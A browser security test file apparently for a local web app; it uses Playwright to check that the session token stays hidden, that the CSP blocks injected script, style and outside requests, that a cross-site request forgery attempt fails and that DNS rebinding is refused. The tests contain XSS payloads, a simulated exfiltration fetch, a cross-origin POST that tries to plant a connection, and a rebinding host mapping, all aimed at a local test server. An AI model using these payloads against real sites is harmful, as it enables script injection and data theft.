/**
 * Web mode's defences seen from a real Chromium: the token leaves the address bar before the page
 * runs and the page's script never holds it (only an HttpOnly cookie does), the page's CSP stops injected script and outside requests, another site in
 * the same browser cannot make the API do anything, and a DNS-rebinding name is refused.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { CHROMIUM_PATH } from '../support/chromium.js';
import { startServe, type ServeProcess } from '../support/serve-process.js';
import { openWithSession } from '../support/web-session.js';

let serve: ServeProcess;
let browser: Browser;
/** Another origin on loopback: it records what reaches it, and serves the "attacker" page. */
let other: Server;
let otherOrigin: string;
const reached: string[] = [];

beforeAll(async () => {
  other = createServer((req, res) => {
    reached.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end('<!doctype html><title>elsewhere</title><p>another site</p>');
  });
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  [serve, browser] = await Promise.all([
    startServe(),
    chromium.launch({
      executablePath: CHROMIUM_PATH,
      headless: true,
      // evil.test resolves to loopback, as a rebinding attacker's name would.
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-dev-shm-usage',
        '--host-resolver-rules=MAP evil.test 127.0.0.1',
      ],
    }),
  ]);
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await serve?.stop();
  other?.closeAllConnections();
  other?.close();
});

/** A tab of the one browser "user" context, which opened the printed link first. */
let userContext: Awaited<ReturnType<Browser['newContext']>> | undefined;
async function openApp(): Promise<Page> {
  userContext ??= await browser.newContext();
  const page = await openWithSession(userContext, serve);
  await page.locator('[data-app-state="loaded"]').waitFor({ timeout: 60_000 });
  return page;
}

test("the token leaves the address bar and the page's script never sees it", async () => {
  const page = await openApp();
  expect(page.url()).not.toContain(serve.token);
  // The session cookie is HttpOnly: the page's script reads no cookie at all.
  expect(await page.evaluate(() => [location.href, document.cookie])).toEqual([
    expect.not.stringContaining(serve.token),
    '',
  ]);
  const stored = await page.evaluate(() => ({
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
  }));
  expect(stored.local).not.toContain(serve.token);
  expect(stored.session).not.toContain(serve.token);
  const cookies = await page.context().cookies(serve.origin);
  expect(cookies.map((c) => c.value).join(' ')).not.toContain(serve.token);
  await page.close();
});

test("the page's CSP stops injected script and requests to other origins", async () => {
  const page = await openApp();
  const outcome = await page.evaluate(async (target) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    (window as unknown as { injected?: boolean }).injected = false;
    const div = document.createElement('div');
    div.innerHTML = '<img src="data:," onerror="window.injected = true">';
    document.body.appendChild(div);
    const s = document.createElement('script');
    s.textContent = 'window.injected = true';
    document.body.appendChild(s);
    let fetched = 'sent';
    try {
      await fetch(`${target}/exfiltrate`, { method: 'POST', body: 'secret', mode: 'no-cors' });
    } catch {
      fetched = 'blocked';
    }
    const img = new Image();
    await new Promise((r) => {
      img.onerror = r;
      img.onload = r;
      img.src = `${target}/pixel`;
    });
    return { injected: (window as unknown as { injected?: boolean }).injected, fetched, violations };
  }, otherOrigin);
  expect(outcome.injected).toBe(false);
  expect(outcome.fetched).toBe('blocked');
  expect(outcome.violations).toEqual(
    expect.arrayContaining(['script-src-attr', 'script-src-elem', 'connect-src', 'img-src']),
  );
  expect(reached).toEqual([]);
  await page.close();
});

test('no inline styles: the app runs without a style violation, and an injected <style> or style attribute is refused', async () => {
  userContext ??= await browser.newContext();
  // Recorded from before the app's own script runs, so a violation while it renders is seen too.
  await userContext.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const page = await openApp();
  const res = await page.request.get(serve.origin + '/');
  expect(res.headers()['content-security-policy']).toMatch(/style-src 'self';/);
  expect(res.headers()['content-security-policy']).not.toContain('unsafe-inline');
  // Open a sample table, so the grid, the tree and their computed styles have all rendered.
  await page
    .getByRole('button', { name: /^HelpDesk\b/ })
    .first()
    .click()
    .catch(() => undefined);
  await page.locator('[data-app-state="loaded"]').waitFor();
  const outcome = await page.evaluate(async () => {
    const before = [...(window as unknown as { cspViolations: string[] }).cspViolations];
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.appendChild(style);
    const div = document.createElement('div');
    div.innerHTML = '<p style="outline: 9px solid red">x</p>';
    document.body.appendChild(div);
    // What the app itself does (React style props, style.cssText) is the CSSOM, which CSP allows.
    const cssom = document.createElement('span');
    cssom.style.cssText = 'outline: 3px solid blue';
    document.body.appendChild(cssom);
    return {
      before: before.filter((v) => v.startsWith('style')),
      bodyOutline: getComputedStyle(document.body).outlineWidth,
      attrOutline: getComputedStyle(div.firstElementChild!).outlineWidth,
      cssomOutline: getComputedStyle(cssom).outlineWidth,
    };
  });
  expect(outcome.before).toEqual([]);
  // Both injections are reported as refused (the events arrive after the elements are added).
  await page.waitForFunction(() => {
    const seen = (window as unknown as { cspViolations: string[] }).cspViolations.map((v) => v.split(' ')[0]);
    return seen.includes('style-src-elem') && seen.includes('style-src-attr');
  });
  expect(outcome.bodyOutline).not.toBe('7px');
  expect(outcome.attrOutline).not.toBe('9px');
  expect(outcome.cssomOutline).toBe('3px');
  await page.close();
});

test('another site open in the same browser cannot make the API act (no token, wrong Origin)', async () => {
  const app = await openApp();
  const before = await app.evaluate(() => JSON.stringify(sessionStorage));
  // In the same browser context as the app, so the session cookie is in its jar too.
  const attacker = await userContext!.newPage();
  await attacker.goto(`${otherOrigin}/attack`);
  const attempts = await attacker.evaluate(async (api) => {
    const out: string[] = [];
    // A "simple" request needs no preflight, so only the server's own checks stand in its way.
    for (const body of ['{"endpoint":"http://127.0.0.1:1","region":"us-east-1","name":"planted"}']) {
      try {
        const r = await fetch(`${api}/api/addEndpointConnection`, {
          method: 'POST',
          mode: 'no-cors',
          headers: { 'Content-Type': 'text/plain' },
          body,
        });
        out.push(`no-cors ${r.type}`);
      } catch (e) {
        out.push(`no-cors threw ${(e as Error).name}`);
      }
      try {
        const r = await fetch(`${api}/api/listConnections`, { method: 'POST', body: '{}' });
        out.push(`cors ${r.status}`);
      } catch (e) {
        out.push(`cors threw ${(e as Error).name}`);
      }
    }
    return out;
  }, serve.origin);
  // The page can read nothing back, and the connection was not planted.
  expect(attempts).toEqual(['no-cors opaque', 'cors threw TypeError']);
  const names = await app.evaluate(async (token) => {
    const r = await fetch('/api/listConnections', {
      method: 'POST',
      headers: { Authorization: `Bearer ${token}` },
      body: '{}',
    });
    return ((await r.json()) as { connections: Array<{ name: string }> }).connections.map((c) => c.name);
  }, serve.token);
  expect(names).not.toContain('planted');
  expect(await app.evaluate(() => JSON.stringify(sessionStorage))).toBe(before);
  await attacker.close();
  await app.close();
});

test('a DNS-rebinding name that resolves to loopback gets neither the page nor the API', async () => {
  const port = new URL(serve.origin).port;
  const page = await browser.newPage();
  const res = await page.goto(`http://evil.test:${port}/?token=${serve.token}`);
  expect(res?.status()).toBe(403);
  expect(await page.textContent('body')).toMatch(/ForbiddenHost/);
  const api = await page.evaluate(async (token) => {
    const r = await fetch('/api/listConnections', {
      method: 'POST',
      headers: { Authorization: `Bearer ${token}` },
      body: '{}',
    });
    return [r.status, ((await r.json()) as { error: { name: string } }).error.name];
  }, serve.token);
  expect(api).toEqual([403, 'ForbiddenHost']);
  await page.close();
});
